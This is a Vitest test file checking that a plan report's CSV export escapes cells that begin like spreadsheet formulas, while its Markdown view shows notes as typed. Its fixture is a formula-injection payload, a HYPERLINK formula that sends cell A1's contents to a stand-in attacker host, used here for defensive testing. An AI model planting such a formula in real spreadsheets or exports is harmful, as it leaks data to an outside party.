import { describe, expect, it } from 'vitest';
import { buildReport } from '../../src/domain/report.js';
import { reportCsv, reportMarkdown } from '../../src/views/report-view.js';
import { coChair } from '../helpers/slack.js';
import { contextAt, loadedStores } from '../helpers/stores.js';

// A note is shown as typed in the report, but in its CSV a cell a spreadsheet would run is neutralised
// (OWASP: a leading apostrophe before =, +, -, @, a tab or a carriage return).

const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Evidence")';

describe('the report CSV cannot attack the reader', () => {
  it('writes a note that starts like a formula with an apostrophe, and shows it as typed elsewhere', () => {
    const stores = loadedStores();
    stores.state.changeStatus({
      planId: 'lac-2023-2024',
      activityId: 'B1.3',
      key: 'B1.3@2024-04',
      status: 'done',
      at: '2024-04-29T15:00:00.000Z',
      date: null,
      note: hyperlink,
      links: ['-https://example.org/x'],
      by: coChair,
      source: 'test',
    });
    const report = buildReport(contextAt(stores, '2024-07-03T10:00:00'), stores.plans.plan('lac-2023-2024')!, '2024-04-01', '2024-06-30');
    const csv = reportCsv(report);
    const row = csv.split('\n').find((line) => line.startsWith('done,'))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Evidence"")"`);
    expect(row).toContain(",'-https://example.org/x,");
    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    const markdown = reportMarkdown(report, 'en', stores.directory());
    expect(markdown).toContain('| =HYPERLINK("http://evil.example/?"');
    expect(markdown).not.toContain("'=HYPERLINK");
  });
});
